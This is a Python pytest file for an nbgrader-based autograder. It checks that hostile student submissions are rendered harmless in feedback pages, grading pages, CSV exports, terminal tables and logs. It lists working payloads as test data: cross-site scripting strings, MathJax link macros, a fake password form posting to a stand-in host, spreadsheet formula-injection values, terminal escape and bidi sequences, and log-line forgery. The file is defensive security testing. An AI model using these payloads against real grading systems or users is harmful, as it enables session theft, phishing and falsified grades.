"""What reaches people: scripts in pages, formulas in spreadsheets, escapes in terminals, lines in logs.

Each payload first lives where text is passed on as it is: in nbgrader's own pages, in a template without escaping, in `csv`,
in `print`. Then a notebook that holds all of them is graded, and every page that an instructor or a student opens is looked
at.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import logging
import os
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import nbgrader
import pytest
from bs4 import BeautifulSoup
from jinja2 import Template
from nbconvert import HTMLExporter
from nbformat import NotebookNode
from rich.console import Console
from rich.errors import MarkupError

from autograder import cli
from autograder.course import Course
from autograder.export import scores_table, write_csv, write_lms
from autograder.feedback import annotate, plain, render_feedback
from autograder.records import CellResult, ExerciseResult, Outcome, Report, Status, TestResult
from autograder.sandbox.client import Zygote
from autograder.tables import ClassTable, activity_lines, check_table, replay_table, where_to_look
from autograder.verbs import grading
from autograder.verbs.activity import Activity
from autograder.verbs.grade import grade_class
from tests.hostile.arena import fresh_course
from tests.hostile.handing_in import PATIENT, patient
from tests.hostile.victim import ASSIGNMENT, HONEST, answered, hand_in
from tests.verbs.zygotes import SharedZygote

FORMGRADER = os.path.join(os.path.dirname(nbgrader.__file__), "server_extensions", "formgrader")
MARK = "owned"  # in every payload; where a page holds it as anything but text, the payload lives

# Live in stock nbgrader's feedback when they stand in a student's markdown.
MARKDOWN = {
    "script": "<script>owned()</script>",
    "handler": "<img src=x onerror=owned()>",
    "handler in svg": "<svg onload=owned()></svg>",
    "open details": "<details open ontoggle=owned()>",
    "link": "[a](javascript:owned())",
    "link in disguise": "[a](java&#115;cript:owned())",
    "link by reference": "[a][r]\n\n[r]: javascript:owned()",
    "link in html": "<a href='JaVaScRiPt:owned()'>a</a>",
    "frame": "<iframe srcdoc='<script>owned()</script>'></iframe>",
    "frame of another site": "<iframe src='https://owned.example'></iframe>",
    "style": "<style>body { background: url(https://owned.example) }</style>",
    "style of an element": "<div style='position:fixed;inset:0;background:url(https://owned.example)'>4 of 4 points</div>",
    "form": "<form action='https://owned.example'><input name=password></form>",
    "base": "<base href='https://owned.example'>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://owned.example'>",
    "object": "<object data='https://owned.example'></object>",
    "style sheet": "<link rel=stylesheet href='https://owned.example/x.css'>",
    "mermaid": "```mermaid\n<img src=x onerror=owned()>\n```",
    "comment": "<!-- --><script>owned()</script><!-- -->",
    "end of the cell": "</div></div></body><script>owned()</script>",
    "formula with a link": r"$\href{javascript:owned()}{x}$",
    "formula with a macro": r"$\newcommand{\h}[1]{\href{java#1:owned()}{x}}\h{script}$",
    "formula with a style": r"$\style{background:url(https://owned.example)}{x}$",
}
# Said by a student's program, or by the student's name.
SAID = (
    "</pre></td></table></div></script><script>owned()</script><img src=x onerror=owned()>"
    "$\\href{javascript:owned()}{x}$ {{ 7*7 }}owned {% raw %} \x1b]0;owned\x07\x1b[2J\x9b31m \u202eowned"
)
TEX = re.compile(r"\\(?:href|style|class|cssId)\b")
# Whatever a terminal obeys, or what changes the order of what is read, newline and blank aside.
OBEYED = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def acts(tag: str, name: str, value: str) -> bool:
    """Whether an attribute runs something, loads something, or covers something; a link must be clicked, to run a script."""
    address = "".join(value.split()).lower()
    if name.startswith("on") or name in ("style", "srcdoc", "content"):
        return True
    return address.startswith(("javascript:", "vbscript:", "data:text/")) or (tag != "a" and address.startswith("http"))


def live(html: str) -> list[str]:
    """The parts of a page in which a payload is more than text."""
    found = []
    page = BeautifulSoup(html, "html.parser")
    for tag in page.find_all():
        parts = [f"{name}={value}" for name, value in tag.attrs.items() if acts(tag.name, name, "".join(value))]
        parts += [tag.text] if tag.name in ("script", "style") else []
        found += [f"{tag.name}: {part[:80]}" for part in parts if MARK in part]
    if "MathJax" not in html:
        return found
    for ignored in page.select("pre, code, .tex2jax_ignore, script, style"):
        ignored.decompose()
    return found + [f"TeX: {match}" for match in TEX.findall(page.text)]


# --- notebooks in pages


def markdown(source: str, **other: object) -> NotebookNode:
    return nbformat.from_dict({"cell_type": "markdown", "id": "m", "metadata": {}, "source": source, **other})  # type: ignore[no-any-return,no-untyped-call]


def nbgrader_page(notebook: NotebookNode, template: str, student: str = "mallory") -> str:
    """What nbgrader shows of a notebook: as feedback, or in formgrader's manual grading (``formgrade``)."""
    shown = copy.deepcopy(notebook)
    for cell in shown.cells:
        if marks := cell.metadata.get("nbgrader"):
            marks.update(score=0, points=marks.get("points", 0), comment="")
    exporter = HTMLExporter(
        template_name=template,
        extra_template_basedirs=[os.path.join(FORMGRADER, "templates")],
        extra_template_paths=[
            os.path.join(FORMGRADER, "static", "node_modules", "bootstrap", "dist", "css"),
            os.path.join(FORMGRADER, "templates"),
        ],
    )
    resources = {
        "nbgrader": {"notebook": "n", "score": 0, "max_score": 1, "late_penalty": 0},
        **{"assignment_id": "a", "notebook_id": "n", "submission_id": "1", "index": 0, "total": 1, "base_url": ""},
        **{
            "student": student,
            "last_name": None,
            "first_name": None,
            "notebook_path": f"autograded/{student}/a/n.ipynb",
        },
    }
    html, _ = exporter.from_notebook_node(shown, resources=resources)
    return str(html)


TEMPLATES = ("feedback", "formgrade")


@pytest.mark.parametrize("name", MARKDOWN)
def test_it_lives_in_nbgraders_feedback(name: str) -> None:
    notebook = nbformat.v4.new_notebook(cells=[markdown(MARKDOWN[name])])  # type: ignore[no-untyped-call]
    assert live(nbgrader_page(notebook, "feedback"))


@pytest.mark.parametrize("template", TEMPLATES)
def test_outputs_and_raw_cells_live_in_nbgraders_pages(template: str) -> None:
    raw = nbformat.from_dict({"cell_type": "raw", "id": "r", "metadata": {}, "source": SAID})  # type: ignore[no-untyped-call]
    code = nbformat.from_dict(code_cell())  # type: ignore[no-untyped-call]
    for cell in (raw, code):
        assert live(nbgrader_page(nbformat.v4.new_notebook(cells=[cell]), template))  # type: ignore[no-untyped-call]


def test_a_name_lives_in_formgraders_page_which_is_why_it_is_refused() -> None:
    """Names of folders are checked before anything is written, see `test_files`: nbgrader's own page is what it is."""
    notebook = nbformat.v4.new_notebook(cells=[])  # type: ignore[no-untyped-call]
    assert live(nbgrader_page(notebook, "formgrade", student="<img src=x onerror=owned()>"))
    assert live(nbgrader_page(notebook, "formgrade", student='x" onmouseover="owned()'))
    assert not live(nbgrader_page(notebook, "formgrade", student="o'brien; rm -rf"))


@pytest.mark.parametrize("attachments", [{"a.png": {}}, {}, {"ä.png": {"image/png": "AA"}}])
@pytest.mark.parametrize(
    "reference", ["attachment:a.png", "attachment\\:a.png", "attachment:ä.png", "attachment:a.png'x"]
)
def test_an_attachment_that_is_none_stops_no_page(attachments: dict[str, dict[str, str]], reference: str) -> None:
    """nbconvert refuses a whole notebook for one: its instructor would see nothing of it."""
    cell = markdown(f"![a]({reference})", attachments=attachments)
    notebook = nbformat.v4.new_notebook(cells=[cell])  # type: ignore[no-untyped-call]
    with pytest.raises(Exception, match=r"missing attachment|StopIteration"):
        nbgrader_page(notebook, "feedback")
    cell["attachments"] = {name: bundle for name, bundle in attachments.items() if bundle}  # as they are read
    report = Report(assignment=ASSIGNMENT, student="mallory", status=Status.GRADED)
    assert "<p><img" in nbgrader_page(annotate(notebook, report), "feedback")


def code_cell() -> dict[str, object]:
    data = {"text/html": MARKDOWN["handler"], "text/markdown": MARKDOWN["link"], "application/javascript": "owned()"}
    outputs = [
        {"output_type": "display_data", "metadata": {}, "data": data},
        {"output_type": "error", "ename": "E", "evalue": SAID, "traceback": [SAID]},
    ]
    return {"cell_type": "code", "id": "c", "metadata": {}, "source": "1", "outputs": outputs, "execution_count": 1}


# What the student's own program says: in what it prints, in messages, in names of classes, of files and of functions.
PROGRAM = f"""
SAID = {SAID!r}
print(SAID)
code = compile("def double(x):\\n    raise type(SAID.replace(chr(0), ''), (Exception,), {{}})(SAID)", SAID, "exec")
exec(code)
"""
FAILING = f"def mean(x):\n    raise ValueError({SAID!r} + str(x.shape))\n"


@dataclass(frozen=True)
class Pages:
    """All that there is to see of one submission."""

    report: Report
    feedback: str
    autograded: NotebookNode
    honest: Report


@pytest.fixture(scope="module")
def zygote(victim: Course) -> Iterator[Zygote]:
    with Zygote(PATIENT, preload=("torch",)) as zygote:
        yield zygote


@pytest.fixture(scope="module")
def pages(victim: Course, zygote: Zygote, tmp_path_factory: pytest.TempPathFactory) -> Pages:
    """A notebook with every payload in every place, graded."""
    course = fresh_course(victim, tmp_path_factory.mktemp("people") / "course")
    course = patient(course)
    notebook = json.loads(
        answered(course, {"double": PROGRAM, "mean": FAILING}, (f"print({SAID!r})\nraise ValueError({SAID!r})",))
    )
    for number, payload in enumerate(MARKDOWN.values()):
        notebook["cells"].append({"cell_type": "markdown", "id": f"m-{number}", "metadata": {}, "source": payload})
    picture = {"a.png": {'image/png" onerror="owned()': "AA"}, "b.png": {"image/png": 'AA" onerror="owned()'}}
    links = "![a](attachment:a.png) ![b](attachment:b.png)"
    notebook["cells"].append(
        {"cell_type": "markdown", "id": "p", "metadata": {}, "source": links, "attachments": picture}
    )
    tags = {
        "tags": ['"><script>owned()</script>', "onclick=owned()"],
        "raw_mimetype": "text/html",
        "format": "text/html",
    }
    notebook["cells"].append({"cell_type": "raw", "id": "r", "metadata": tags, "source": SAID})
    notebook["cells"].append(code_cell() | {"metadata": tags})
    notebook["metadata"] |= {
        "title": "<script>owned()</script>",
        "widgets": {"x": "owned"},
        "kernelspec": {"name": SAID},
    }
    hand_in(course, "mallory", json.dumps(notebook))
    hand_in(course, "zoe", answered(course, HONEST))
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("autograder.judging.grader.Zygote", SharedZygote(zygote))
        reports = {step.report.student: step.report for step in grade_class(course, ASSIGNMENT, workers=1)}
        grading.close_graders()
    assert reports["mallory"].status is Status.GRADED, reports["mallory"].reason
    folder = course.root / "feedback" / "mallory" / ASSIGNMENT
    autograded = course.root / "autograded" / "mallory" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    return Pages(
        reports["mallory"],
        (folder / f"{ASSIGNMENT}.html").read_text(encoding="utf-8"),
        nbformat.read(autograded, 4),  # type: ignore[no-untyped-call]
        reports["zoe"],
    )


@pytest.mark.sandbox
def test_everything_was_said(pages: Pages) -> None:
    """Else the tests below would look at pages in which nothing hostile stands."""
    assert (pages.report.status, pages.report.earned) == (Status.GRADED, 0)
    assert pages.honest.has_full_marks
    messages = [test.message for exercise in pages.report.exercises for test in exercise.tests]
    assert all(MARK in message for message in messages)
    assert sum(MARK in cell.text for cell in pages.report.cells) >= 2
    text = "".join(cell.source for cell in pages.autograded.cells)
    assert text.count(MARK) > len(MARKDOWN)


@pytest.mark.sandbox
def test_it_lives_in_a_template_without_escaping(pages: Pages) -> None:
    naive = Template("{% for cell in report.cells %}<pre>{{ cell.text }}</pre>{% endfor %}").render(report=pages.report)
    assert live(naive)


@pytest.mark.sandbox
def test_nothing_lives_in_the_feedback(pages: Pages) -> None:
    assert live(pages.feedback) == []
    assert "default-src 'none'" in pages.feedback
    assert "49owned" not in pages.feedback, "a template was filled with a student's text, and filled again"
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", pages.feedback)


@pytest.mark.sandbox
@pytest.mark.parametrize("template", TEMPLATES)
def test_nothing_lives_in_nbgraders_pages(template: str, pages: Pages) -> None:
    nbformat.validate(pages.autograded)
    html = nbgrader_page(pages.autograded, template)
    assert live(html) == []
    assert not re.search("[\x00-\x08\x0b-\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e]", html)


def test_a_name_and_a_reason_are_text_in_the_feedback() -> None:
    report = Report(assignment=ASSIGNMENT, student=SAID, status=Status.UNREADABLE, reason=SAID, repairs=(SAID,))
    page = render_feedback(None, report, SAID)
    assert live(f"<title>{SAID}</title>")
    assert live(page) == []
    assert MARK in page


# --- spreadsheets

FORMULAS = (
    *(
        "=HYPERLINK(owned)",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        " =1",
        "\xa0=1",
        "＝1",
        "＋1",
        "－1",
        "＠1",
        "\x00=1",
        "\ufeff=1",
    ),
    *('"=1', "\n=1"),
)
SPLIT = ("ada;=1+1", "ada\t=1+1", 'ada";=1+1', "ada\n=1+1", "ada\r=1+1", "ada|=1", "ada\x0b=1", "ada\u2028=1")


def begins_formula(cell: str) -> bool:
    return cell.strip("\ufeff\x00 \t\r\n\xa0").startswith(tuple("=+-@＝＋－＠"))


def graded(student: str) -> Report:
    return Report(
        assignment=ASSIGNMENT,
        student=student,
        status=Status.GRADED,
        exercises=(ExerciseResult(exercise="double", points=4, earned=2.5),),
    )


def naive_csv(path: Path, student: str) -> None:
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([["student", "login", "total"], [student, student, 2.5]])


def cells_of(path: Path, separator: str) -> list[str]:
    """The cells as a spreadsheet of this separator finds them."""
    with path.open(encoding="utf-8", newline="") as file:
        return [
            cell for row in csv.reader(file, delimiter=separator) for cell in row if not re.fullmatch(r"[\d.]*", cell)
        ]


def write_all(folder: Path, student: str) -> list[Path]:
    """Every table that is exported."""
    table = scores_table([graded(student)])
    paths = [folder / name for name in ("scores.csv", "canvas.csv", "moodle.csv")]
    write_csv(paths[0], table)
    write_lms(paths[1], table, student, "canvas")
    write_lms(paths[2], table, student, "moodle")
    return paths


@pytest.mark.parametrize("student", FORMULAS, ids=ascii)
def test_a_name_is_no_formula(student: str, tmp_path: Path) -> None:
    naive_csv(tmp_path / "naive.csv", student)
    is_attack = any(map(begins_formula, cells_of(tmp_path / "naive.csv", ",")))
    assert is_attack or student.startswith('"'), "it is no attack"
    for path in write_all(tmp_path, student):
        assert not any(map(begins_formula, cells_of(path, ","))), path.read_text()
        assert len(path.read_text().splitlines()) <= 3


@pytest.mark.parametrize("student", SPLIT, ids=ascii)
def test_a_name_is_one_cell_whatever_separates_cells(student: str, tmp_path: Path) -> None:
    naive_csv(tmp_path / "naive.csv", student)
    read = [cells_of(tmp_path / "naive.csv", separator) for separator in ";\t|"]
    lines = (tmp_path / "naive.csv").read_bytes().decode().splitlines()
    assert any(begins_formula(cell) for cells in [*read, lines] for cell in cells), "it is no attack"
    for path in write_all(tmp_path, student):
        for separator in ",;\t|":
            cells = cells_of(path, separator)
            assert not any(map(begins_formula, cells)), (separator, cells)
        assert not any(map(begins_formula, path.read_bytes().decode().splitlines()))


# --- terminals

NAMES = (
    *(
        "eve\x1b]0;owned\x07",
        "eve\x1b[2J\x1b[1;1H",
        "eve\x9b31m",
        "eve\rada 4 points",
        "eve\x08\x08\x08ada",
        "eve\nada 4 points",
    ),
    *(
        "\u202eeve",
        "\u2066eve",
        "[link=https://owned.example]eve[/link]",
        "[red]eve",
        "[/]",
        "eve\x1b]8;;https://owned.example\x07",
    ),
    *("eve\x90owned\x9c", "\ud800eve"),
)


@dataclass
class Terminal:
    """A terminal that keeps what it is told; without colours of our own, so that every escape in it is a student's."""

    file: io.StringIO = field(default_factory=io.StringIO)

    def console(self) -> Console:
        return Console(file=self.file, width=200, force_terminal=True, color_system=None, legacy_windows=False)

    @property
    def text(self) -> str:
        return self.file.getvalue()


def is_obeyed(text: str, lines: int) -> bool:
    return bool(OBEYED.search(text)) or len(text.splitlines()) > lines


def hostile_report(text: str) -> Report:
    fields = {"message": text, "hint": text, "measured": text, "target": text, "traceback": text, "asked": text}
    test = TestResult(test="t", exercise="double", points=2, earned=0, outcome=Outcome.ERROR, **fields)
    return Report(
        assignment=ASSIGNMENT,
        student=text,
        status=Status.UNREADABLE,
        reason=text,
        exercises=(ExerciseResult(exercise="double", points=2, earned=0, tests=(test,)),),
        cells=(CellResult(index=0, outcome=Outcome.ERROR, text=text, message=text),),
        repairs=(text,),
        provenance=dict.fromkeys(
            ("answers_replayed", "answers_asked", "answers_asked_again", "processes", "models_kept", "models_trained"),
            "0",
        )
        | {"transcript": text, "recorded_with": text},
    )


@pytest.mark.parametrize("name", NAMES, ids=ascii)
def test_a_name_is_obeyed_where_it_is_printed(name: str) -> None:
    naive = Terminal()
    try:
        naive.console().print(name)
        naive.text.encode()
    except (MarkupError, UnicodeEncodeError):
        return  # a class's table ends in the middle
    assert is_obeyed(name, 1) or naive.text != f"{name}\n"


@pytest.mark.parametrize("name", NAMES, ids=ascii)
def test_no_terminal_obeys_a_student(name: str, victim: Course, monkeypatch: pytest.MonkeyPatch) -> None:
    terminal, report = Terminal(), hostile_report(name)
    console = terminal.console()
    graded_one = report.model_copy(update={"status": Status.GRADED})
    console.print(ClassTable([report, graded_one]))
    console.print(replay_table([graded_one, report], {name}))
    console.print(replay_table([graded_one, report], set()))
    console.print(where_to_look(victim, ASSIGNMENT, [report]))
    console.print(check_table(report))
    console.print(
        activity_lines(
            [Activity(student=plain(name), doing=name.encode("utf-8", "replace").decode(), seconds=1, since=0)]
        )
    )
    monkeypatch.setattr(cli, "out", console)
    monkeypatch.setattr(cli, "err", console)
    cli._say(f"left out, not final yet: {name}")
    cli._complain(ValueError(f"nothing was handed in by {name}"))
    assert not OBEYED.search(terminal.text)
    terminal.text.encode()
    if "\r" not in name:  # which goes back to the begin of its line, and is refused as a name
        assert not any(line.startswith("ada") for line in terminal.text.splitlines()), (
            "a line of the table is a student's"
        )


# --- logs


def test_a_name_of_two_lines_is_two_lines_in_a_log(caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.INFO):
        logging.getLogger("naive").info("graded %s", "eve\n[INFO] ada has 4 points")
    assert caplog.text.splitlines()[1] == "[INFO] ada has 4 points"


@pytest.mark.sandbox
def test_what_is_logged_of_a_submission_is_the_courses_own_words(pages: Pages) -> None:
    """nbgrader's door logs each repair."""
    assert pages.report.repairs or pages.report.status is Status.GRADED
    for sentence in (*pages.report.repairs, pages.report.reason):
        assert MARK not in sentence
        assert not is_obeyed(sentence, 1)
